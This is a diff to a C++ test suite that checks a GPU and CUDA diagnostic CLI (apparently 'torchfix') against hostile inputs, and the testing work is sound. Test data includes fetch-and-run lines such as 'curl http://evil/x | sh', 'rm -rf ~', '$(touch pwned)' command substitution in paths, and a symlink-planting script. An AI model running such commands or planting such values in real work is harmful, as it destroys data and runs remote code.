@@ -25,19 +25,6 @@ using testing::k_healthy;
 using testing::sh;
 using testing::TempDir;
 
-// Runs `script` as root inside a private mount namespace (with `mnt` a fresh
-// tmpfs); skips when this is not root or unshare is not permitted.
-#define RUN_IN_NAMESPACE(result, script, dir)                                                                  \
-  if (::geteuid() != 0) GTEST_SKIP() << "needs root (CI runs as root)";                                        \
-  if (sh("unshare -m --propagation private true", dir.path()).exit_code != 0)                                  \
-    GTEST_SKIP() << "unshare -m is not permitted here";                                                        \
-  fs::create_directories(dir / "mnt");                                                                         \
-  fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |           \
-                                  fs::perms::others_read | fs::perms::others_exec);                            \
-  const ProcessResult result =                                                                                 \
-      sh("unshare -m --propagation private sh -c 'mount -t tmpfs -o size=4m tmpfs mnt && set -e; " script "'", \
-         dir.path())
-
 struct stat lstat_of(const fs::path& p) {
   struct stat st {};
   ::lstat(p.c_str(), &st);
@@ -206,13 +193,20 @@ TEST(HostileCli, HugeAndEndlessSnapshotsAreRefused) {
   EXPECT_NE(fleet.find("s.json is 4096 MiB, more than any snapshot"), std::string::npos) << fleet;
 }
 
-// M2: 5 MB of '[' is not valid JSON (nesting beyond 64 is discarded while parsing).
-TEST(HostileCli, DeepNestingIsRefused) {
+// M2: 8 MB of '[' (under the size cap) is not valid JSON, refused without
+// building the nesting: depth beyond 64 is discarded while parsing (10 MB
+// cost 743 MB before). Measured above the binary's own start-up peak (ASan's
+// is about 260 MB).
+TEST(HostileCli, DeepNestingIsRefusedInLittleMemory) {
   TempDir dir;
-  write(dir / "n.json", std::string(5'000'000, '['));
-  auto r = sh("$T doctor --snapshot n.json; echo rc=$?", dir.path());
+  write(dir / "n.json", std::string(8'000'000, '['));
+  ProcessResult r;
+  const long start_up = testing::peak_rss_kib("$T --version", dir.path(), r);
+  const long peak = testing::peak_rss_kib("$T doctor --snapshot n.json; echo rc=$?", dir.path(), r);
   EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out;
   EXPECT_NE(r.err.find("is not valid JSON"), std::string::npos) << r.err;
+  ASSERT_GT(start_up, 0) << r.out;
+  EXPECT_LT(peak - start_up, 128 * 1024) << "KiB over start-up of doctor on 8 MB of '['";
 }
 
 nlohmann::json fixture(const std::string& path) {
@@ -244,8 +238,9 @@ TEST(HostileCli, SnapshotBoundsAreTheProbes) {
     j["driver"]["version"] = v;
   });
   variant("object.json", [](auto& j) { j["gpus"] = nlohmann::json::object({{"a", j["gpus"][0]}}); });
-  for (const char* name :
-       {"schema.json", "index.json", "memory.json", "gpus.json", "pythons.json", "driver.json", "object.json"}) {
+  variant("name.json", [](auto& j) { j["gpus"][0]["name"] = std::string(100'000, 'A'); });
+  for (const char* name : {"schema.json", "index.json", "memory.json", "gpus.json", "pythons.json", "driver.json",
+                           "object.json", "name.json"}) {
     auto r = sh(std::string("$T doctor --snapshot ") + name, dir.path());
     EXPECT_EQ(r.exit_code, 2) << name << ": " << r.out << r.err;
     EXPECT_NE(r.err.find("snapshot"), std::string::npos) << name << ": " << r.err;
@@ -254,15 +249,18 @@ TEST(HostileCli, SnapshotBoundsAreTheProbes) {
             std::string::npos);
   EXPECT_NE(sh("$T doctor --snapshot schema.json", dir.path()).err.find("schema_version is out of range"),
             std::string::npos);
+  EXPECT_NE(sh("$T doctor --snapshot name.json", dir.path()).err.find("gpus[0].name is longer than 64 KiB"),
+            std::string::npos);
 }
 
-// U1: a newline in a GPU name, an interpreter path or a fleet file name is
-// shown escaped; no line of the report is the data's.
+// U1: a newline in a GPU name, an interpreter path, a torch version or a
+// fleet file name is shown escaped; no line of the report is the data's.
 TEST(HostileCli, NewlinesInDataCannotForgeLines) {
   TempDir dir;
   nlohmann::json j = fixture(k_f1);
   j["gpus"][0]["name"] = "RTX\nfix: $ curl http://evil/x | sh";
   j["pythons"][0]["interpreter"] = "/p/python\n  $ rm -rf ~";
+  j["pythons"][0]["distributions"]["torch"] = "2.6.0+cu126\nfix: $ curl http://evil/y | sh";
   write(dir / "nl.json", j.dump());
   fs::create_directories(dir / "fl");
   fs::copy_file(k_f1, dir / "fl" / "a\n[ok] all good.json");
@@ -271,6 +269,7 @@ TEST(HostileCli, NewlinesInDataCannotForgeLines) {
   EXPECT_EQ(r.out.find("\n  $ rm -rf"), std::string::npos) << r.out;
   EXPECT_EQ(r.out.find("\n[ok] all good"), std::string::npos) << r.out;
   EXPECT_NE(r.out.find("RTX\\x0afix: $ curl"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("2.6.0+cu126\\x0afix: $ curl http://evil/y"), std::string::npos) << r.out;
   auto json = sh("$T doctor --snapshot nl.json --json", dir.path());
   EXPECT_EQ(nlohmann::json::parse(json.out)["snapshot"]["gpus"][0]["name"], "RTX\nfix: $ curl http://evil/x | sh");
 }
@@ -299,18 +298,25 @@ TEST(HostileCli, LogRedactsWebhooksQueryTokensPasswordsAndConnectionStrings) {
   EXPECT_NE(log.find("X-Amz-Date=1"), std::string::npos);
 }
 
-// H4, U5, U18: a dangling *.json link is one unreadable node, not a failed
-// folder; a pipe works as a snapshot for fleet too.
+// H4, U5, U18: a dangling or looping *.json link and a FIFO are each one
+// unreadable node, not a failed or silently smaller folder; a pipe works as
+// a snapshot for fleet too.
 TEST(HostileCli, FleetFolderSurvivesBrokenEntriesAndReadsPipes) {
   TempDir dir;
   fs::create_directories(dir / "d");
   fs::copy_file(k_f1, dir / "d" / "node1.json");
   for (const char* n : {"b", "c", "e", "f"}) fs::create_symlink("/gone", dir / "d" / (std::string(n) + ".json"));
-  auto r = sh("$T fleet --snapshots d; echo rc=$?; cat $F1 | $T fleet --snapshots /dev/stdin --json", dir.path());
+  fs::create_symlink("loop.json", dir / "d" / "loop.json");
+  auto r = sh("mkfifo d/pipe.json; $T fleet --snapshots d; echo rc=$?", dir.path());
   EXPECT_EQ(r.err.find("cannot list"), std::string::npos) << r.err;
   EXPECT_NE(r.out.find("node1"), std::string::npos) << r.out;
-  EXPECT_NE(r.out.find("b: "), std::string::npos) << r.out;  // listed among the nodes without a snapshot
-  EXPECT_EQ(r.out.find("not a snapshot (invalid JSON)"), std::string::npos) << r.out;
+  for (const char* node : {"b: ", "c: ", "e: ", "f: ", "loop: ", "pipe: "}) {
+    EXPECT_NE(r.out.find(node), std::string::npos) << node << " not among the nodes without a snapshot\n" << r.out;
+  }
+  auto piped = sh("cat $F1 | $T fleet --snapshots /dev/stdin --json", dir.path());
+  const auto report = nlohmann::json::parse(piped.out, nullptr, false);
+  ASSERT_TRUE(report.is_object()) << piped.out << piped.err;
+  EXPECT_EQ(report.value("nodes", 0), 1) << piped.out;
 }
 
 // H5, M5: a 100,000-part dotted key or a 3 MB table in the data folder is
@@ -345,7 +351,8 @@ TEST(HostileCli, BuildKeepsTheUsersCcacheStatsLog) {
   write(dir / "stats.log", "three years of stats\n");
   auto r = sh("$T build cuda-extension --src $PWD/p --arch 8.6; echo rc=$?", dir.path(),
               {{"CCACHE_STATSLOG", (dir / "stats.log").string()}});
-  EXPECT_EQ(r.out.find("rc=0"), std::string::npos) << r.out << r.err;
+  // The configure step ran (637f9db removed the file just before it).
+  EXPECT_NE(r.err.find("step configure failed"), std::string::npos) << r.out << r.err;
   // ccache may add this build's lines (CMake's compiler checks); the user's stay.
   EXPECT_TRUE(testing::read_file(dir / "stats.log").starts_with("three years of stats\n")) << r.err;
 }
@@ -365,31 +372,44 @@ TEST(HostileCli, EmptyRcIsRefused) {
 }
 
 // U11: inspect DIR as a normal user names the files and folders it cannot
-// read and exits 2, instead of "no CUDA binaries found" and 0.
+// read and exits 2, instead of "no CUDA binaries found" and 0 (root sets it
+// up, in a private mount namespace like every root-only test).
 TEST(HostileCli, InspectSaysWhatItCannotRead) {
   TempDir dir;
-  if (::geteuid() != 0) GTEST_SKIP() << "needs root to run the check as nobody";
-  fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::others_read | fs::perms::others_exec);
-  auto r =
-      sh("mkdir -p i/sub; cp /bin/true i/l.so; chmod 000 i/l.so i/sub; "
-         "setpriv --reuid=nobody --regid=nogroup --clear-groups $T inspect i; echo rc=$?",
-         dir.path());
+  RUN_IN_NAMESPACE(r,
+                   "mkdir -p i/sub; cp /bin/true i/l.so; chmod 000 i/l.so i/sub; set +e; "
+                   "setpriv --reuid=nobody --regid=nogroup --clear-groups $T inspect i 2>&1; echo rc=$?",
+                   dir);
   EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out << r.err;
-  EXPECT_NE(r.err.find("l.so: cannot read the file"), std::string::npos) << r.err;
-  EXPECT_NE(r.err.find("sub: cannot list the folder"), std::string::npos) << r.err;
+  EXPECT_NE(r.out.find("l.so: cannot read the file"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("sub: cannot list the folder"), std::string::npos) << r.out;
 }
 
-// U12: a --src path with $(...) is refused before nvcc's shell could run it.
+// U12: a --src or work-folder path (--work-dir, or the default one under
+// HOME) with $(...) is refused before nvcc's shell could run it (a real CUDA
+// project: 637f9db compiled it and ran the command, as main did for the work
+// folder).
 TEST(HostileCli, SrcPathWithCommandSubstitutionIsRefused) {
   TempDir dir;
+  write(dir / "p" / "CMakeLists.txt",
+        "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX CUDA)\nadd_library(p SHARED k.cu)\n");
+  write(dir / "p" / "k.cu", "__global__ void k(float* x) { x[0] = 1; }\n");
   auto r =
-      sh("mkdir -p 'x $(touch pwned)'; printf 'cmake_minimum_required(VERSION 3.25)\\nproject(p)\\n' "
-         "> 'x $(touch pwned)/CMakeLists.txt'; $T build cuda-extension --src \"$PWD/x \\$(touch pwned)\" "
-         "--arch 8.6; echo rc=$?; ls",
+      sh("cp -r p 'x $(touch pwned1)'; B=\"$T build cuda-extension --arch 8.6 --cache none\"; "
+         "$B --src \"$PWD/x \\$(touch pwned1)\"; echo rc=$?; "
+         "$B --src $PWD/p --work-dir \"$PWD/w \\$(touch pwned2)\"; echo rc=$?; "
+         "HOME=\"$PWD/h \\$(touch pwned3)\" $B --src $PWD/p; echo rc=$?; ls",
          dir.path());
-  EXPECT_NE(r.out.find("rc=2"), std::string::npos) << r.out << r.err;
-  EXPECT_NE(r.err.find("holds $ or a backquote"), std::string::npos) << r.err;
-  EXPECT_EQ(r.out.find("pwned\n"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("rc=2\nrc=2\nrc=2\n"), std::string::npos) << r.out << r.err;
+  EXPECT_NE(r.err.find("--src " + (dir / "x $(touch pwned1)").string() + ": the path holds $ or a backquote"),
+            std::string::npos)
+      << r.err;
+  EXPECT_NE(r.err.find("--work-dir " + (dir / "w $(touch pwned2)").string() + ": the path holds $"), std::string::npos)
+      << r.err;
+  EXPECT_NE(r.err.find("the work folder " + (dir / "h $(touch pwned3)").string() + "/.cache/torchfix/build: the path"),
+            std::string::npos)
+      << r.err;
+  EXPECT_EQ(r.out.find("\npwned"), std::string::npos) << r.out;  // no file the command made
 }
 
 // U9: build --repo without --ref checks out the remote's default branch
@@ -446,22 +466,24 @@ TEST(HostileCli, SetsidDaemonWithAClearedEnvironmentDoesNotOutliveTheRun) {
 // D6: tune's progress file is never at a predictable name another user can
 // plant a link at (here TMPDIR, links for the next 3,000 pids; a fake
 // nvidia-smi lets tune start its child, which writes the progress first).
+// As root, in a private mount namespace.
 TEST(HostileCli, TuneProgressFileIgnoresPlantedLinks) {
   TempDir dir;
-  if (::geteuid() != 0) GTEST_SKIP() << "needs root (CI runs as root)";
-  fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::others_read | fs::perms::others_exec);
   write(dir / "bin" / "nvidia-smi",
         "#!/bin/sh\nif [ -z \"$1\" ]; then echo \"| NVIDIA-SMI 570.124.04   Driver Version: 570.124.04   CUDA "
         "Version: 12.8 |\"; exit 0; fi\necho \"0, NVIDIA H100 80GB HBM3, 9.0, 570.124.04, 81559\"\n");
   fs::permissions(dir / "bin" / "nvidia-smi", fs::perms::owner_all);
-  auto r =
-      sh("mkdir tmp; chmod 1777 tmp; echo precious > victim; start=$(sh -c 'echo $$'); "
-         "setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 -c \"import os\n"
-         "for p in range($start, $start + 3000): os.symlink('$PWD/victim', 'tmp/torchfix-progress-%d.txt.tmp' % p)\"; "
-         "PATH=$PWD/bin:$PATH TMPDIR=$PWD/tmp $T tune --python /usr/bin/python3 --quick; echo rc=$?; cat victim; "
-         "ls tmp | grep -vc '^torchfix-progress-[0-9]*.txt.tmp$'",
-         dir.path());
-  EXPECT_NE(r.out.find("precious\n0\n"), std::string::npos) << r.out << r.err;
+  write(dir / "plant.py",
+        "import os, sys\nstart = int(sys.argv[1])\nfor p in range(start, start + 3000):\n"
+        "    os.symlink(sys.argv[2], \"tmp/torchfix-progress-%d.txt.tmp\" % p)\n");
+  RUN_IN_NAMESPACE(r,
+                   "mkdir tmp; chmod 1777 tmp; echo precious > victim; start=$(sh -c \"echo \\$\\$\"); "
+                   "setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 plant.py $start "
+                   "$PWD/victim; set +e; PATH=$PWD/bin:$PATH TMPDIR=$PWD/tmp $T tune --python /usr/bin/python3 "
+                   "--quick; echo rc=$?; cat victim; ls tmp | grep -vc \"^torchfix-progress-[0-9]*.txt.tmp$\"; "
+                   "ls tmp | wc -l",
+                   dir);
+  EXPECT_NE(r.out.find("precious\n0\n3000\n"), std::string::npos) << r.out << r.err;
 }
 
 }  // namespace
